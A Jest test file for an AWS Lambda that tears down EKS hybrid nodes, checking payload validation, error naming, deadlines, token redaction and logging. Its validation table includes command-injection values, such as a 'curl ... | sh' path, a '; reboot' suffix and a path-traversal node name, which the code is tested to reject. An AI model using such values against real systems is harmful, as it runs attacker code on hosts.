/**
 * The teardown task Lambda (functions/handlers/teardown.ts): each `step` reaches its service method, a bad
 * payload is refused naming the field, errors are named for the state machine's Retry/Catch
 * (InvalidTeardownInput, TransientError, or the step's own), no token reaches an error or a log line, and
 * every invocation writes one `teardown step` line.
 */
import { jest } from '@jest/globals';
import { captureProcessOutput } from '../../support/process-output.js';
import { ENV_LABELS, parseControllerConfig } from '../../../functions/core/config.js';
import { ConfigError, IncompleteReadError } from '../../../functions/core/errors.js';
import { PAUSE_TAG_KEY, TEARDOWN_STEPS, type TeardownStep } from '../../../functions/core/teardown-steps.js';
import type { TeardownDeps, TeardownSettings } from '../../../functions/service/teardown.js';
import { FAKE_BEARER_TOKEN, fakeLambdaContext } from '../../support/fakes.js';
import {
  TD_CLUSTER,
  TD_RULES,
  TD_TABLE_A,
  TD_TABLE_B,
  type TeardownWorld,
  awsError,
  kubernetesError,
  labNode,
  labTarget,
  pauseLabNode,
  teardownLab,
  teardownRequest,
  throttlingError,
} from '../../support/teardown-fakes.js';

// Powertools reads its environment when the singletons are built: JSON lines on stdout, INFO level, metrics on.
delete process.env.POWERTOOLS_DEV;
delete process.env.POWERTOOLS_METRICS_DISABLED;
process.env.POWERTOOLS_LOG_LEVEL = 'INFO';
const { createTeardownHandler, isTransient, teardownSettingsFromEnv } = await import('../../../functions/handlers/teardown.js');
const { TeardownService } = await import('../../../functions/service/teardown.js');

type Json = Record<string, any>;

const output = captureProcessOutput();
const { lines, logLines } = output;

const settings = (): TeardownSettings => ({
  config: parseControllerConfig({ clusterName: TD_CLUSTER, region: 'us-west-2', routeTableIds: `${TD_TABLE_A},${TD_TABLE_B}` }, ENV_LABELS),
  ruleNames: TD_RULES,
});

function harness(world: TeardownWorld = teardownLab()) {
  const loadSettings = jest.fn(settings);
  const createDeps = jest.fn(async (_settings: TeardownSettings): Promise<TeardownDeps> => world.deps());
  const handler = createTeardownHandler({ loadSettings, createDeps });
  return {
    world,
    loadSettings,
    createDeps,
    invoke: async (event: unknown) => (await handler(event, fakeLambdaContext({ functionName: 'eks-hybrid-routes-teardown' }))) as Json,
    /** The error the invocation throws (fails the test if it resolves). */
    failure: async (event: unknown): Promise<Error> => {
      const outcome = await handler(event, fakeLambdaContext({ functionName: 'eks-hybrid-routes-teardown' })).then(
        (value) => ({ value }),
        (error: unknown) => ({ error }),
      );
      if (!('error' in outcome)) throw new Error(`expected the invocation to fail, it returned ${JSON.stringify(outcome.value)}`);
      expect(outcome.error).toBeInstanceOf(Error);
      return outcome.error as Error;
    },
  };
}

const N1 = labNode(1);
const request = teardownRequest({ nodes: [N1.name] });
const node = labTarget(1);

/** A valid payload for every step, and the service method and arguments it must reach. */
const DISPATCH: Record<TeardownStep, { payload: Json; method: keyof InstanceType<typeof TeardownService>; args: unknown[] }> = {
  snapshot: { payload: { step: 'snapshot', input: { clusterName: TD_CLUSTER, nodes: 'all' } }, method: 'snapshot', args: [{ clusterName: TD_CLUSTER, nodes: 'all' }] },
  pause: { payload: { step: 'pause', request, nodes: [node] }, method: 'pause', args: [request, [node]] },
  drain: { payload: { step: 'drain', request, node, previous: { deadline: 1234, evicted: ['default/web-1'] } }, method: 'drain', args: [request, node, { deadline: 1234, evicted: ['default/web-1'] }] },
  uninstall: { payload: { step: 'uninstall', request, node, previous: { commandId: 'cmd-1', deadline: 99 } }, method: 'uninstall', args: [request, node, { commandId: 'cmd-1', deadline: 99 }] },
  'delete-objects': { payload: { step: 'delete-objects', request, node }, method: 'deleteObjects', args: [request, node] },
  deregister: { payload: { step: 'deregister', request, node }, method: 'deregister', args: [request, node] },
  'restore-source-dest-check': { payload: { step: 'restore-source-dest-check', request, node }, method: 'restoreSourceDestCheck', args: [request, node] },
  terminate: { payload: { step: 'terminate', request, node }, method: 'terminate', args: [request, node] },
  routes: { payload: { step: 'routes', request, nodes: [node], nodeResults: [{ node: N1.name, status: 'done' }] }, method: 'routes', args: [request, [node], [{ node: N1.name, status: 'done' }], expect.any(AbortSignal)] },
  activations: { payload: { step: 'activations', request }, method: 'activations', args: [request] },
  resume: {
    payload: {
      step: 'resume',
      state: { request, nodes: [node], snapshot: {}, pause: { tagged: [N1.eni] }, nodeResults: [{ node: N1.name, status: 'done' }], routes: { removed: [], failed: [], vetoed: [] } },
    },
    method: 'resume',
    args: [request, [node], { tagged: [N1.eni] }, [{ node: N1.name, status: 'done' }], { removed: [], failed: [], vetoed: [] }],
  },
  verify: { payload: { step: 'verify', state: { request, nodes: [node] } }, method: 'verify', args: [{ request, nodes: [node] }] },
};
const METHODS = [...new Set(Object.values(DISPATCH).map((entry) => entry.method))];

// =========================================================================================================
describe('dispatch', () => {
  test('the table covers every step of the state machine', () => {
    expect(Object.keys(DISPATCH).sort()).toEqual([...TEARDOWN_STEPS].sort());
    expect(METHODS).toHaveLength(TEARDOWN_STEPS.length);
  });

  test.each([...TEARDOWN_STEPS])('step %s reaches its service method, with the payload’s arguments, and returns its result', async (step) => {
    const spies = Object.fromEntries(
      METHODS.map((method) => [method, jest.spyOn(TeardownService.prototype, method as 'pause').mockResolvedValue({ from: method } as never)]),
    );
    const { invoke, world } = harness();
    const { payload, method, args } = DISPATCH[step];

    const result = await invoke(payload);

    expect(result).toEqual({ from: method });
    expect(spies[method]!.mock.calls).toEqual([args]);
    for (const other of METHODS.filter((name) => name !== method)) expect(spies[other]).not.toHaveBeenCalled();
    expect(world.calls).toEqual([]);
  });

  test.each<[string, Json, unknown]>([
    ['a Catch’s error object', { routes: { Error: 'TransientError', Cause: 'Rate exceeded' } }, { Error: 'TransientError', Cause: 'Rate exceeded' }],
    ['a report with a failed deletion', { routes: { removed: [], failed: [{ destination: N1.cidr, error: 'x' }], vetoed: [] } }, { removed: [], failed: [{ destination: N1.cidr, error: 'x' }], vetoed: [] }],
  ])('resume passes the state’s routes result on as it is: %s', async (_label, routes, expected) => {
    const spy = jest.spyOn(TeardownService.prototype, 'resume').mockResolvedValue({ from: 'resume' } as never);
    const { invoke } = harness();
    const state = { request, nodes: [node], pause: { tagged: [N1.eni] }, nodeResults: [{ node: N1.name, status: 'done' }], ...routes };

    await invoke({ step: 'resume', state });

    expect(spy.mock.calls).toEqual([[request, [node], { tagged: [N1.eni] }, [{ node: N1.name, status: 'done' }], expected]]);
    expect(spy.mock.calls[0]).toHaveLength(5);
  });

  test('after a failed pause the state has no node results and no route report: resume still runs and unpauses', async () => {
    const world = teardownLab();
    const { invoke } = harness(world);
    const state = { request, nodes: [node], pause: { Error: 'AccessDeniedException', Cause: 'events:DisableRule' } };
    await expect(invoke({ step: 'resume', state })).resolves.toMatchObject({ enabledRules: [] });
  });

  test('the real service: a resume after a failed routes step keeps the removed node’s tag; after a finished one, removes it', async () => {
    const world = teardownLab();
    const { invoke } = harness(world);
    const pause = await invoke({ step: 'pause', request, nodes: [node] });
    const state = { request, nodes: [node], pause, nodeResults: [{ node: N1.name, status: 'done' }] };

    const kept = await invoke({ step: 'resume', state: { ...state, routes: { Error: 'TransientError', Cause: 'Rate exceeded' } } });
    expect(kept).toMatchObject({ untagged: [], keptPaused: [N1.eni] });
    expect(world.eni(N1.eni)!.tags).toEqual({ [PAUSE_TAG_KEY]: N1.name });

    const removed = await invoke({ step: 'resume', state: { ...state, routes: { removed: [], failed: [], vetoed: [] } } });
    expect(removed).toMatchObject({ untagged: [N1.eni], keptPaused: [] });
    expect(world.eni(N1.eni)!.tags).toBeUndefined();
  });

  test('a snapshot that matches more than 100 nodes: InvalidTeardownInput naming nodes, nothing changed', async () => {
    const world = teardownLab({ nodes: 101 });
    const { failure } = harness(world);

    const error = await failure({ step: 'snapshot', input: { clusterName: TD_CLUSTER, nodes: 'all' } });

    expect(error.name).toBe('InvalidTeardownInput');
    expect(error.message).toBe('nodes: 101 nodes match; one teardown takes at most 100: name them in batches');
    expect(error.cause).toBeInstanceOf(ConfigError);
    expect(world.mutations()).toEqual([]);
  });

  test('settings and ports are made once per container', async () => {
    const { invoke, loadSettings, createDeps } = harness();
    await invoke({ step: 'terminate', request, node });
    await invoke({ step: 'terminate', request, node });
    expect(loadSettings).toHaveBeenCalledTimes(1);
    expect(createDeps).toHaveBeenCalledTimes(1);
    expect(createDeps).toHaveBeenCalledWith(expect.objectContaining({ ruleNames: TD_RULES }));
  });

  test('the real service runs against the ports: snapshot and drain', async () => {
    const { invoke, world } = harness();

    const snapshot = await invoke({ step: 'snapshot', input: { clusterName: TD_CLUSTER, nodes: [N1.name] } });
    expect(snapshot.nodes).toEqual([node]);
    expect(snapshot.request).toEqual(request);

    const drain = await invoke({ step: 'drain', request: snapshot.request, node: snapshot.nodes[0] });
    expect(drain).toMatchObject({ done: true, cordon: 'cordoned', evicted: ['default/web-1'] });
    expect(world.mutations().map((call) => call.method)).toEqual(['cordonNode', 'evictPod']);
  });

  test('settings from the environment: the reconciler’s variables and the rule names', () => {
    const parsed = teardownSettingsFromEnv({
      CLUSTER_NAME: TD_CLUSTER,
      ROUTE_TABLE_IDS: `${TD_TABLE_A},${TD_TABLE_B}`,
      RECONCILER_RULE_NAMES: ' rule-a, rule-b ,,rule-c ',
    });
    expect(parsed.ruleNames).toEqual(['rule-a', 'rule-b', 'rule-c']);
    expect(parsed.config).toMatchObject({ clusterName: TD_CLUSTER, routeTables: { kind: 'ids', routeTableIds: [TD_TABLE_A, TD_TABLE_B] } });
    expect(teardownSettingsFromEnv({ CLUSTER_NAME: TD_CLUSTER, ROUTE_TABLE_IDS: TD_TABLE_A }).ruleNames).toEqual([]);
  });
});

// =========================================================================================================
describe('a bad payload', () => {
  test.each<[string, unknown, RegExp]>([
    ['no step', { request }, /^step: /],
    ['an unknown step', { step: 'launch', request }, /^step: /],
    ['not an object', 'drain', /^payload: /],
    ['a node without its ENI list', { step: 'pause', request, nodes: [{ name: N1.name, cidrs: [] }] }, /^step pause: nodes\[0\]\.networkInterfaceIds: /],
    ['a node with an empty name', { step: 'terminate', request, node: { ...node, name: '' } }, /^step terminate: node\.name: /],
    ['a node with an unknown instance proof', { step: 'terminate', request, node: { ...node, instanceProof: 'tagged' } }, /^step terminate: node\.instanceProof: /],
    ['a timeout that is not a number', { step: 'drain', request: { ...request, timeouts: { ...request.timeouts, drainSeconds: '300' } }, node }, /^step drain: request\.timeouts\.drainSeconds: /],
    ['a previous deadline that is not a number', { step: 'drain', request, node, previous: { deadline: 'soon' } }, /^step drain: previous\.deadline: /],
    ['a previous command id that is not a string', { step: 'uninstall', request, node, previous: { commandId: 7 } }, /^step uninstall: previous\.commandId: /],
    ['a request without dryRun', { step: 'activations', request: { ...request, dryRun: undefined } }, /^step activations: request\.dryRun: /],
    ['a second node with a bad CIDR list', { step: 'routes', request, nodes: [node, { ...node, cidrs: 'x' }], nodeResults: [] }, /^step routes: nodes\[1\]\.cidrs: /],
    ['resume without the nodes', { step: 'resume', state: { request, pause: {}, nodeResults: [] } }, /^step resume: state\.nodes: /],
    ['resume in the old shape (no state)', { step: 'resume', request, nodes: [node], pause: {} }, /^step resume: state: /],
    ['verify without the request', { step: 'verify', state: { nodes: [] } }, /^step verify: state\.request: /],
    // A payload that did not come from the snapshot (a direct invoke) is held to the execution input's rules.
    ['a shell command as nodeadmPath', { step: 'uninstall', request: { ...request, nodeadmPath: 'curl http://x/y | sh; nodeadm' }, node }, /^step uninstall: request\.nodeadmPath: must be an absolute path/],
    ['a relative nodeadmPath', { step: 'uninstall', request: { ...request, nodeadmPath: 'bin/nodeadm' }, node }, /^step uninstall: request\.nodeadmPath: /],
    ['a managed-instance id with a shell command', { step: 'uninstall', request, node: { ...node, managedInstanceId: 'mi-0123456789abcdef0; reboot' } }, /^step uninstall: node\.managedInstanceId: must be a managed-instance id/],
    ['an instance id that is no EC2 id', { step: 'terminate', request, node: { ...node, instanceId: 'i-*' } }, /^step terminate: node\.instanceId: must be an EC2 instance id/],
    ['an ENI id that is no ENI id', { step: 'restore-source-dest-check', request, node: { ...node, networkInterfaceIds: ['eni-1 eni-2'] } }, /^step restore-source-dest-check: node\.networkInterfaceIds\[0\]: /],
    ['a node name that is no Kubernetes name', { step: 'delete-objects', request, node: { ...node, name: '../../api/v1/nodes' } }, /^step delete-objects: node\.name: must be a Kubernetes node name/],
    ['an address that is not text', { step: 'routes', request, nodes: [{ ...node, ip: 10 }], nodeResults: [] }, /^step routes: nodes\[0\]\.ip: /],
    ['a CIDR that is no CIDR', { step: 'routes', request, nodes: [{ ...node, cidrs: ['10.30.1.0/33'] }], nodeResults: [] }, /^step routes: nodes\[0\]\.cidrs\[0\]: must be a CIDR/],
    ['a concurrency over the limit', { step: 'pause', request: { ...request, concurrency: 1000 }, nodes: [node] }, /^step pause: request\.concurrency: /],
    ['a requested node that is no node name', { step: 'terminate', request: { ...request, nodes: ['i-0123456789abcdef0 --force'] }, node }, /^step terminate: request\.nodes\[0\]: must be a node name/],
    ['a verify whose nodes are malformed', { step: 'verify', state: { request, nodes: [{ ...node, instanceId: 'x' }] } }, /^step verify: state\.nodes\[0\]\.instanceId: /],
  ])('%s: InvalidTeardownPayload naming the field; nothing is set up or called', async (_label, event, message) => {
    const { failure, world, loadSettings, createDeps } = harness();

    const error = await failure(event);

    expect(error.name).toBe('InvalidTeardownPayload');
    expect(error.message).toMatch(message);
    expect(loadSettings).not.toHaveBeenCalled();
    expect(createDeps).not.toHaveBeenCalled();
    expect(world.calls).toEqual([]);
  });
});

// =========================================================================================================
describe('errors are named for the state machine', () => {
  test('bad execution input (ConfigError): InvalidTeardownInput with the field, nothing called', async () => {
    const { failure, world } = harness();

    const error = await failure({ step: 'snapshot', input: { clusterName: TD_CLUSTER, nodes: [N1.name], timeouts: { uninstallSeconds: 3601 } } });

    expect(error.name).toBe('InvalidTeardownInput');
    expect(error.message).toBe('timeouts.uninstallSeconds: uninstallSeconds must be at most 3600');
    expect(error.cause).toBeInstanceOf(ConfigError);
    expect(world.calls).toEqual([]);
  });

  test('a bad function environment: TeardownMisconfigured naming the variable, not InvalidTeardownInput; nothing called', async () => {
    const world = teardownLab();
    const handler = createTeardownHandler({
      loadSettings: () => teardownSettingsFromEnv({ CLUSTER_NAME: TD_CLUSTER, AWS_REGION: 'us-west-2', ROUTE_TABLE_TAG: 'no-equals-sign' }),
      createDeps: async () => world.deps(),
    });

    const error = (await handler(DISPATCH.drain.payload, fakeLambdaContext({ functionName: 'eks-hybrid-routes-teardown' })).catch((thrown: unknown) => thrown)) as Error;

    expect(error.name).toBe('TeardownMisconfigured');
    expect(error.message).toMatch(/^the teardown function's environment: ROUTE_TABLE_TAG: /);
    expect(world.calls).toEqual([]);
  });

  test('a POD_NETWORKS outside the cluster (found once the cluster is read): TeardownMisconfigured naming the variable, not InvalidTeardownInput', async () => {
    const world = teardownLab();
    const handler = createTeardownHandler({
      loadSettings: () => teardownSettingsFromEnv({ CLUSTER_NAME: TD_CLUSTER, AWS_REGION: 'us-west-2', ROUTE_TABLE_TAG: 'k=v', POD_NETWORKS: '10.99.0.0/16' }),
      createDeps: async () => world.deps(),
    });

    const error = (await handler(DISPATCH.snapshot.payload, fakeLambdaContext({ functionName: 'eks-hybrid-routes-teardown' })).catch((thrown: unknown) => thrown)) as Error;

    expect(error.name).toBe('TeardownMisconfigured');
    expect(error.message).toMatch(/^the teardown function's environment: POD_NETWORKS\[0\]: 10\.99\.0\.0\/16 is not inside the cluster's networks/);
    expect(world.calls.map((call) => `${call.port}.${call.method}`)).toEqual(['cluster.describeCluster', 'kubernetes.connect']);
  });

  test('a ConfigError from setting up the clients (no Region): TeardownMisconfigured too, and set-up is tried again on the next invocation', async () => {
    const world = teardownLab();
    const createDeps = jest
      .fn<(settings: TeardownSettings) => Promise<TeardownDeps>>()
      .mockRejectedValueOnce(new ConfigError('region', 'no AWS Region is configured (set AWS_REGION or pass the region)'))
      .mockResolvedValue(world.deps());
    const handler = createTeardownHandler({ loadSettings: jest.fn(settings), createDeps });
    const context = fakeLambdaContext({ functionName: 'eks-hybrid-routes-teardown' });

    const error = (await handler(DISPATCH.activations.payload, context).catch((thrown: unknown) => thrown)) as Error;

    expect(error.name).toBe('TeardownMisconfigured');
    expect(error.message).toBe("the teardown function's environment: region: no AWS Region is configured (set AWS_REGION or pass the region)");
    expect(world.calls).toEqual([]);
    await expect(handler(DISPATCH.activations.payload, context)).resolves.toBeDefined();
    expect(createDeps).toHaveBeenCalledTimes(2);
  });

  test('the wrong cluster: InvalidTeardownInput naming clusterName', async () => {
    const { failure } = harness();
    const error = await failure({ step: 'snapshot', input: { clusterName: 'prod', nodes: 'all' } });
    expect(error.name).toBe('InvalidTeardownInput');
    expect(error.message).toBe(`clusterName: this teardown is deployed for cluster ${TD_CLUSTER}, not prod`);
  });

  test.each(TEARDOWN_STEPS.filter((step) => step !== 'snapshot'))('step %s for another cluster: InvalidTeardownInput naming request.clusterName, nothing called', async (step) => {
    const { failure, world } = harness();
    const payload = structuredClone(DISPATCH[step].payload);
    if ('request' in payload) payload.request.clusterName = 'prod';
    else payload.state.request.clusterName = 'prod';

    const error = await failure(payload);

    expect(error.name).toBe('InvalidTeardownInput');
    expect(error.message).toBe(`request.clusterName: this teardown is deployed for cluster ${TD_CLUSTER}, not prod`);
    expect(world.calls).toEqual([]);
  });

  test.each<[string, string, () => unknown, TeardownStep]>([
    ['EC2 throttling while tagging', 'tagNetworkInterfaces', () => throttlingError(), 'pause'],
    ['EC2 RequestLimitExceeded while restoring source/dest check', 'enableSourceDestCheck', () => awsError('RequestLimitExceeded', 'Request limit exceeded.', 503), 'restore-source-dest-check'],
    ['an AWS 500 while deregistering', 'deregisterManagedInstance', () => awsError('InternalServerError', 'internal error', 500), 'deregister'],
    ['an SDK timeout while terminating', 'terminateInstances', () => Object.assign(new Error('socket hang up'), { name: 'TimeoutError' }), 'terminate'],
    ['a connection reset while deleting an activation', 'deleteActivation', () => Object.assign(new Error('read ECONNRESET'), { code: 'ECONNRESET' }), 'activations'],
    ['Kubernetes 429 while cordoning', 'cordonNode', () => kubernetesError('cordon node failed: 429 Too Many Requests', 429), 'drain'],
    ['Kubernetes 503 while deleting the Node', 'deleteNode', () => kubernetesError('delete node failed: 503 Service Unavailable', 503), 'delete-objects'],
    ['Kubernetes with no answer at all', 'deleteCiliumNode', () => kubernetesError('delete ciliumnode failed: connect ETIMEDOUT', undefined, 'UND_ERR_CONNECT_TIMEOUT'), 'delete-objects'],
    ['a throttled route-table read (wrapped as an incomplete read)', 'describeRouteTables', () => throttlingError(), 'routes'],
    ['a throttled CiliumNode list (wrapped as an incomplete read)', 'listCiliumNodes', () => kubernetesError('list ciliumnodes failed: 429', 429), 'routes'],
  ])('%s: TransientError', async (_label, method, error, step) => {
    const world = teardownLab();
    // Terminating takes the node's ENI paused for it, as the pause step leaves it.
    if (step === 'terminate') pauseLabNode(world, 1);
    world.failOn(method, error, { times: 'always' });
    const { failure } = harness(world);

    const thrown = await failure({ ...DISPATCH[step].payload, ...(step === 'terminate' ? { request: { ...request, terminateInstances: true } } : {}), ...(step === 'activations' ? { request: { ...request, deleteActivations: true } } : {}) });

    expect(thrown.name).toBe('TransientError');
    expect(world.calls.some((call) => call.method === method && call.failed)).toBe(true);
  });

  test('the TransientError keeps the message and the original as its cause', async () => {
    const world = teardownLab();
    const original = throttlingError();
    world.failOn('describeRouteTables', original);
    const { failure } = harness(world);

    const thrown = await failure(DISPATCH.routes.payload);

    expect(thrown.message).toBe('route-tables: read failed, nothing was changed: ThrottlingException: Rate exceeded');
    expect(thrown.cause).toBeInstanceOf(IncompleteReadError);
    expect((thrown.cause as Error).cause).toBe(original);
  });

  test('DrainTimedOut keeps its name and message', async () => {
    const world = teardownLab();
    world.pdbBlocked.add('default/web-1');
    const { failure } = harness(world);

    const thrown = await failure({ step: 'drain', request, node, previous: { deadline: world.time - 1 } });

    expect(thrown.name).toBe('DrainTimedOut');
    expect(thrown.message).toBe(`${N1.name} still has pods that must leave after 300 s: default/web-1 (eviction refused, PodDisruptionBudget: default/web-1)`);
  });

  test('UninstallFailed keeps its name', async () => {
    const world = teardownLab();
    world.onRunShellScript = () => ({ status: 'Failed', responseCode: 1, standardError: 'nodeadm: permission denied' });
    const { invoke, failure } = harness(world);
    const started = await invoke({ step: 'uninstall', request, node });

    const thrown = await failure({ step: 'uninstall', request, node, previous: { commandId: started.commandId, deadline: started.deadline } });

    expect(thrown.name).toBe('UninstallFailed');
    expect(thrown.message).toBe(`nodeadm uninstall on ${N1.name} ended Failed (exit 1): nodeadm: permission denied`);
  });

  test.each<[string, string, () => unknown, string]>([
    ['Kubernetes 403', 'deleteNode', () => kubernetesError('delete node failed: 403 Forbidden', 403), 'KubernetesApiError'],
    ['Kubernetes 404 of something else', 'deleteNode', () => kubernetesError('delete node failed: 404 (no such namespace)', 404), 'KubernetesApiError'],
    ['AWS access denied', 'deleteNode', () => awsError('AccessDeniedException', 'not authorized', 400), 'AccessDeniedException'],
    ['a programming error', 'deleteNode', () => new TypeError('cannot read properties of undefined'), 'TypeError'],
  ])('%s is not transient: the error keeps its name', async (_label, method, error, name) => {
    const world = teardownLab();
    world.failOn(method, error, { times: 'always' });
    const { failure } = harness(world);

    expect((await failure(DISPATCH['delete-objects'].payload)).name).toBe(name);
  });

  test('a thrown non-Error becomes <step>Failed', async () => {
    jest.spyOn(TeardownService.prototype, 'pause').mockRejectedValue('boom' as never);
    const { failure } = harness();
    const thrown = await failure(DISPATCH.pause.payload);
    expect(thrown.name).toBe('pauseFailed');
    expect(thrown.message).toBe('boom');
  });
});

// =========================================================================================================
describe('the invocation deadline', () => {
  const teardownContext = (remainingMs: number) => fakeLambdaContext({ functionName: 'eks-hybrid-routes-teardown', getRemainingTimeInMillis: () => remainingMs });

  test('the routes step is told to stop starting deletions the reserve before the deadline, and returns its own report', async () => {
    let seen: AbortSignal | undefined;
    jest.spyOn(TeardownService.prototype, 'routes').mockImplementation(async (_request, _nodes, _results, signal) => {
      seen = signal;
      // Stands for deletions still being started: the step ends once the signal says time is up.
      await new Promise<void>((resolve) => {
        const giveUp = setTimeout(resolve, 5_000);
        signal?.addEventListener('abort', () => (clearTimeout(giveUp), resolve()), { once: true });
      });
      return { removed: [], failed: [], vetoed: [], notStarted: [{ routeTableId: TD_TABLE_A, destination: N1.cidr }] } as never;
    });
    const world = teardownLab();
    // 60 s left, 59.95 s kept back: the step has 50 ms, and middy's own timeout is a minute away.
    const handler = createTeardownHandler({ loadSettings: settings, createDeps: async () => world.deps(), stepTimeReserveMs: 59_950 });

    const result = (await handler(DISPATCH.routes.payload, teardownContext(60_000))) as Json;

    expect(seen?.aborted).toBe(true);
    expect(result).toEqual({ removed: [], failed: [], vetoed: [], notStarted: [{ routeTableId: TD_TABLE_A, destination: N1.cidr }] });
  });

  test('a step still running at the Lambda timeout fails as a TransientError (the state retries it), logged and counted', async () => {
    let finish: (() => void) | undefined;
    jest.spyOn(TeardownService.prototype, 'pause').mockImplementation(() => new Promise((resolve) => (finish = () => resolve({ tagged: [] } as never))));
    const world = teardownLab();
    const handler = createTeardownHandler({ loadSettings: settings, createDeps: async () => world.deps() });

    // 1.1 s left: middy ends the invocation 1 s before the deadline, so after about 100 ms.
    const error = (await handler(DISPATCH.pause.payload, teardownContext(1_100)).catch((thrown: unknown) => thrown)) as Error;
    finish?.();

    expect(error.name).toBe('TransientError');
    expect(error.message).toBe('the step was still running at the Lambda timeout; it is run again from a fresh read');
    expect(logLines('teardown step timed out')).toEqual([expect.objectContaining({ level: 'ERROR', error: expect.objectContaining({ name: 'TransientError' }) })]);
    expect(lines().filter((line) => '_aws' in line)).toContainEqual(expect.objectContaining({ TeardownStepFailures: 1 }));
  });
});

// =========================================================================================================
describe('isTransient', () => {
  test.each<[string, unknown, boolean]>([
    ['ThrottlingException (HTTP 400)', { name: 'ThrottlingException', $metadata: { httpStatusCode: 400 } }, true],
    ['any error with HTTP 429', { name: 'Whatever', $metadata: { httpStatusCode: 429 } }, true],
    ['HTTP 503', { name: 'ServiceUnavailable', $metadata: { httpStatusCode: 503 } }, true],
    ['HTTP 501', { name: 'NotImplemented', $metadata: { httpStatusCode: 501 } }, true],
    ['ECONNRESET', Object.assign(new Error('reset'), { code: 'ECONNRESET' }), true],
    ['KubernetesApiError 429', kubernetesError('x', 429), true],
    ['KubernetesApiError 500', kubernetesError('x', 500), true],
    ['KubernetesApiError with no status (no answer)', kubernetesError('x', undefined, 'ECONNREFUSED'), true],
    ['KubernetesApiError, the request deadline passed', kubernetesError('x', undefined, 'TimeoutError'), true],
    ['KubernetesApiError, undici gave up connecting', kubernetesError('x', undefined, 'UND_ERR_CONNECT_TIMEOUT'), true],
    // As the AWS SDK has it: in a VPC, name resolution can fail for a moment.
    ['KubernetesApiError, the name did not resolve', kubernetesError('x', undefined, 'ENOTFOUND'), true],
    ['transient down the cause chain', new Error('outer', { cause: new Error('middle', { cause: throttlingError() }) }), true],
    ['ValidationException (HTTP 400)', { name: 'ValidationException', $metadata: { httpStatusCode: 400 } }, false],
    ['KubernetesApiError 409', kubernetesError('x', 409), false],
    ['KubernetesApiError with neither status nor code', kubernetesError('x'), false],
    ['KubernetesApiError for a CA that does not match (no status, a TLS code)', kubernetesError('x', undefined, 'UNABLE_TO_VERIFY_LEAF_SIGNATURE'), false],
    ['KubernetesApiError for a certificate for another name', kubernetesError('x', undefined, 'ERR_TLS_CERT_ALTNAME_INVALID'), false],
    ['a ConfigError', new ConfigError('nodes', 'bad'), false],
    ['a plain Error', new Error('x'), false],
    ['a string', 'ThrottlingException', false],
    ['null', null, false],
  ])('%s → %p', (_label, error, expected) => {
    expect(isTransient(error)).toBe(expected);
  });
});

// =========================================================================================================
describe('no token in errors or logs', () => {
  const leaks = (text: string) => text.includes('SECRET') || text.includes(FAKE_BEARER_TOKEN);

  test.each<[string, (world: TeardownWorld) => void, Json, string]>([
    [
      'a Kubernetes error that echoes the Authorization header',
      (world) => world.failOn('deleteNode', kubernetesError(`delete node failed: 403 (request headers: Authorization: Bearer ${FAKE_BEARER_TOKEN})`, 403)),
      DISPATCH['delete-objects'].payload,
      'KubernetesApiError',
    ],
    [
      'a transient error carrying the token',
      (world) => world.failOn('cordonNode', kubernetesError(`cordon failed: 503 {"token":"${FAKE_BEARER_TOKEN}"}`, 503)),
      { step: 'drain', request, node },
      'TransientError',
    ],
    [
      'nodeadm stderr with the token',
      (world) => (world.onRunShellScript = () => ({ status: 'Failed', responseCode: 1, standardError: `curl -H "Authorization: Bearer ${FAKE_BEARER_TOKEN}" failed` })),
      { step: 'uninstall', request, node, previous: { commandId: '00000001-aaaa-bbbb-cccc-000000000000', deadline: Date.UTC(2030, 0) } },
      'UninstallFailed',
    ],
  ])('%s', async (_label, arrange, event, name) => {
    const world = teardownLab();
    arrange(world);
    if (event.step === 'uninstall') await world.ssm.runShellScript(N1.name, ['nodeadm uninstall'], { comment: 'x', executionTimeoutSeconds: 600 });
    const { failure } = harness(world);

    const thrown = await failure(event);

    expect(thrown.name).toBe(name);
    expect(thrown.message).toContain('k8s-aws-v1.[REDACTED]');
    expect(leaks(thrown.message)).toBe(false);
    expect(leaks(thrown.stack ?? '')).toBe(false);
    const everything = output.text();
    expect(everything).toContain('teardown step failed');
    expect(leaks(everything)).toBe(false);
  });

  test('a token given as the cluster name is redacted from the InvalidTeardownInput message', async () => {
    const { failure } = harness();

    const thrown = await failure({ step: 'snapshot', input: { clusterName: FAKE_BEARER_TOKEN, nodes: 'all' } });

    expect(thrown.name).toBe('InvalidTeardownInput');
    expect(leaks(thrown.message)).toBe(false);
    expect(leaks(output.text())).toBe(false);
  });

  test('a successful step logs its result without the token', async () => {
    const world = teardownLab();
    world.pods.push({ node: N1.name, namespace: 'default', name: FAKE_BEARER_TOKEN.toLowerCase().slice(0, 60), ownerKinds: [], mirror: false, terminating: false, phase: 'Running' });
    const { invoke } = harness(world);

    await invoke({ step: 'drain', request, node });

    expect(logLines('teardown step')).toHaveLength(1);
    expect(leaks(output.text())).toBe(false);
  });
});

// =========================================================================================================
describe('logging', () => {
  test('one `teardown step` line per invocation, with the step, the node and the result', async () => {
    const { invoke } = harness();

    await invoke({ step: 'drain', request, node });
    await invoke({ step: 'pause', request, nodes: [node] });
    await invoke({ step: 'terminate', request, node });

    const stepLines = logLines('teardown step');
    expect(stepLines).toHaveLength(3);
    expect(stepLines[0]).toMatchObject({
      level: 'INFO',
      service: 'eks-hybrid-routes',
      step: 'drain',
      node: N1.name,
      clusterName: TD_CLUSTER,
      function_name: 'eks-hybrid-routes-teardown',
      durationMs: expect.any(Number),
      result: { done: true, cordon: 'cordoned', evicted: ['default/web-1'] },
    });
    // The node key of one invocation does not leak into the next.
    expect(stepLines[1]).toMatchObject({ step: 'pause', result: { tagged: [N1.eni] } });
    expect(stepLines[1]).not.toHaveProperty('node');
    expect(stepLines[2]).toMatchObject({ step: 'terminate', node: N1.name, result: { instance: 'not-requested' } });
    expect(logLines('teardown step failed')).toEqual([]);
  });

  test('a successful invocation writes that one line and nothing else (no metrics blob, no warning)', async () => {
    const { invoke } = harness();
    await invoke({ step: 'terminate', request, node });
    expect(lines().map((line) => line.message ?? 'EMF')).toEqual(['teardown step']);
  });

  test('a failed invocation writes one `teardown step failed` line with the renamed error, and no success line', async () => {
    const world = teardownLab();
    world.failOn('cordonNode', kubernetesError('cordon failed: 429', 429));
    const { failure } = harness(world);

    await failure({ step: 'drain', request, node });

    expect(logLines('teardown step')).toEqual([]);
    const failed = logLines('teardown step failed');
    expect(failed).toHaveLength(1);
    expect(failed[0]).toMatchObject({ level: 'ERROR', step: 'drain', node: N1.name, error: { name: 'TransientError', message: 'cordon failed: 429' } });
    expect(failed[0]!.durationMs).toEqual(expect.any(Number));
    const blobs = lines().filter((line) => '_aws' in line && !('ColdStart' in line));
